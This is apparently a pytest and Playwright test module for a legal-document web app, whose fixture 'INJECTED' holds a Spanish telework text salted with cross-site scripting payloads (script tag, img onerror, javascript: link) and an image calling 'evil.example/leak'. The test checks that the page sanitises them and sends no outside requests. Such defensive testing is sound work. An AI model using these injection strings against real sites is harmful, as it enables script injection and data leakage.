"""The page over a small law and a document that would like to run things, in a real browser."""

import re
from collections.abc import Iterator
from datetime import date

import pytest
from playwright.sync_api import Browser, expect
from support.chromium import PATIENCE, Visit, chromium
from support.loopback import serving
from support.served_law import index_law

from articulado.config.profile import load_profile
from articulado.config.settings import Settings
from graph.open_graphs import OpenGraphs
from server.access import KeyRing
from server.app import app_over
from server.settings import ServerSettings

INJECTED = """# Protocolo de teletrabajo

El teletrabajo dura tres meses `<img src=x onerror="window.pwned=1">` y se pide `<script>window.pwned=1</script>` al
encargado ![foto](https://evil.example/leak?q=1) o en [la oficina](javascript:window.pwned=1). [C9]
===META===
USED|1
"""


@pytest.fixture(scope="session")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    folder = tmp_path_factory.mktemp("page")
    (folder / "protocolo.md").write_text(INJECTED, encoding="utf-8")
    return index_law(folder, [folder / "protocolo.md"])


@pytest.fixture(scope="session")
def site(settings: Settings) -> Iterator[str]:
    """The address of a server; its conversations are kept as long as it runs."""
    opened = OpenGraphs(settings, load_profile(settings.profile))
    with serving(app_over(opened, ServerSettings(conversations="memory", per_minute=10_000))) as url:
        yield url


@pytest.fixture(scope="session")
def keyed(settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """The address of a server with keys, and two of them."""
    ring = tmp_path_factory.mktemp("keyed") / "keys.json"
    keys = [KeyRing(ring).add(name, date(2026, 1, 1)) for name in ("ana", "luis")]
    opened = OpenGraphs(settings, load_profile(settings.profile))
    with serving(app_over(opened, ServerSettings(keys=ring, conversations="memory", per_minute=10_000))) as url:
        yield url, keys


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # Closed with the module: as long as it is open, its event loop is the one of this thread.
    with chromium() as opened:
        yield opened


@pytest.fixture
def visit(browser: Browser, site: str, request: pytest.FixtureRequest) -> Iterator[Visit]:
    """A visit of the page; ``@pytest.mark.parametrize("visit", [{…}], indirect=True)`` sets up its browser."""
    # Without motion: what is looked at while the page still scrolls may lie half below its bars.
    steady = {"locale": "es-ES", "viewport": {"width": 1280, "height": 900}, "reduced_motion": "reduce"}
    options = {**steady, **getattr(request, "param", {})}
    context = browser.new_context(**options)
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    visited = Visit(page)
    page.on("request", lambda sent: visited.requests.append(sent.url))
    page.on("console", lambda line: visited.complaints.append(line.text) if line.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: visited.complaints.append(str(error)))
    page.goto(site)
    expect(page.locator("#holdings")).to_contain_text(re.compile("Índice del|Index of"))
    yield visited
    assert visited.complaints == []
    assert [url for url in visited.requests if not url.startswith((site, "blob:"))] == []
    context.close()
